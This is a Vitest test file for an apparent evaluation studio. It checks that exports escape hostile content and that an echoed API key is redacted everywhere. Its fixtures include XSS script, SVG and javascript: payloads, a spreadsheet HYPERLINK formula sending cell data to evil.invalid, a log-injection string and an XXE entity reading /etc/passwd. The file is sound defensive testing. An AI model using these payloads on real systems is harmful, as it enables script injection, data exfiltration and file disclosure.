import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { readXml } from "@/lib/testing/read-xml";
import { openTestStudio, SMALL_BUNDLE, type TestStudio } from "@/lib/testing/test-studio";
import { delta, sendStream, startWireServer, type WireServer } from "@/lib/testing/wire-server";
import { handleApi } from "./http";

const KEY = "sk-live-9f8e7d6c5b4a";
/** What may come from a model, a case file or a person, each with what it attacks. */
const HOSTILE = {
  script: '<script>globalThis.hacked=1</script><img src=x onerror="globalThis.hacked=1">',
  svg: '<svg onload="globalThis.hacked=1"><a xlink:href="javascript:globalThis.hacked=1">x</a></svg>',
  markdown: "[click](javascript:globalThis.hacked=1) ![x](http://evil.invalid/p.png)",
  formula: '=HYPERLINK("http://evil.invalid?"&A1,"open")',
  log: "fine\r\n2026-11-30 release-promoted by admin\u001b[2J",
  xml: "]]> & <!ENTITY x SYSTEM 'file:///etc/passwd'>",
};
const ALL = Object.values(HOSTILE).join(" ");

let studio: TestStudio;
let model: WireServer;
let run: string;

beforeEach(async () => {
  process.env.HOSTILE_TEST_KEY = KEY;
  model = await startWireServer((response) =>
    sendStream(response, [delta({ content: `${HOSTILE.formula} ${ALL} Bearer ${KEY}` }, "stop")]),
  );
  studio = openTestStudio();
  await studio.call("POST", "/projects", { id: "p", name: HOSTILE.script, description: ALL });
  const files = { ...SMALL_BUNDLE, "prompt/02-hostile.md": `---\norder: 2\n---\n${ALL.replaceAll("\r", "")}\n` };
  const { body } = await studio.call("POST", "/projects/p/versions/import", { files, name: HOSTILE.formula, message: ALL });
  await studio.call("PUT", "/endpoints/hostile", {
    ...{
      name: HOSTILE.svg,
      baseUrl: model.url,
      model: HOSTILE.markdown,
      checkpoint: HOSTILE.formula,
      keyVariable: "HOSTILE_TEST_KEY",
    },
  });
  const cases = Object.entries(HOSTILE).map(([id, text]) => ({
    ...{ id: `${id} ${text}`.slice(0, 120), category: text.slice(0, 80), priority: "P0", tags: [text] },
    input: { comments: [{ viewer: text.slice(0, 100), text: `${text} ${ALL}` }] },
    checks: [{ id: text, description: text, metric: "accuracy", kind: "reply-contains", any: ["nothing of the kind"] }],
  }));
  const text = cases.map((one) => JSON.stringify(one)).join("\n");
  const set = await studio.call("POST", "/projects/p/datasets/import", { name: HOSTILE.markdown, role: "dev", text });
  const started = await studio.call("POST", "/projects/p/runs", {
    ...{ version: body.version.hash, endpoint: "hostile", dataset: set.body.dataset.id },
  });
  run = started.body.id;
  const status = async () => (await studio.call("GET", `/projects/p/runs/${run}`)).body.run.status;
  await expect.poll(status, { timeout: 20_000 }).toBe("completed");
});
afterEach(async () => {
  delete process.env.HOSTILE_TEST_KEY;
  await studio.close();
  await model.close();
});

const download = async (format: string) => {
  const path = `http://localhost/api/projects/p/runs/${run}/export?format=${format}`;
  const response = await handleApi(new Request(path), studio.studio);
  return { text: await response.text(), headers: response.headers };
};

it("no export runs, embeds or computes what a model, a case or a name says", async () => {
  const html = await download("html");
  expect(html.headers.get("content-security-policy")).toContain("sandbox");
  expect(html.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
  expect(html.text).toContain("&lt;script&gt;");
  expect(html.text).not.toMatch(/<(script|svg|img|iframe|object|a)\b/i);
  expect(html.text).not.toMatch(/<[a-z]+[^>]*\son\w+=/i);

  const csv = (await download("csv")).text;
  const cells = csv.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"/, ""));
  expect(cells.some((cell) => cell.startsWith("'="))).toBe(true);
  expect(cells.filter((cell) => /^[=+@\t]|^-(?!\d)/.test(cell))).toEqual([]);

  const junit = readXml((await download("junit")).text);
  expect(junit.attributes.tests).toBe("6");
  const lines = (await download("jsonl")).text.trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line).case)).toHaveLength(6);
});

it("a key that the model's service repeats reaches no answer, no export and no file of the data folder", async () => {
  const pages = ["", "/runs", `/runs/${run}`, `/runs/${run}/results`, "/datasets", "/versions"].map(
    (path) => `/projects/p${path}`,
  );
  for (const path of [...pages, "/endpoints", "/audit", "/projects"]) {
    const { status, body } = await studio.call("GET", path);
    expect(status, path).toBe(200);
    expect(JSON.stringify(body), path).not.toContain(KEY);
  }
  const [row] = (await studio.call("GET", `/projects/p/runs/${run}/results`)).body.items;
  const one = await studio.call("GET", `/projects/p/runs/${run}/results/${encodeURIComponent(row.case)}`);
  expect(one.body.result.reply).toContain("Bearer …");
  expect(JSON.stringify(one.body)).not.toContain(KEY);
  for (const format of ["html", "csv", "junit", "jsonl", "labels"])
    expect((await download(format)).text, format).not.toContain(KEY);
  studio.studio.database.$client.pragma("wal_checkpoint(TRUNCATE)");
  expect(readFileSync(join(studio.studio.dataFolder, "studio.sqlite")).includes(KEY)).toBe(false);
  expect(JSON.stringify(studio.reported)).not.toContain(KEY);
});
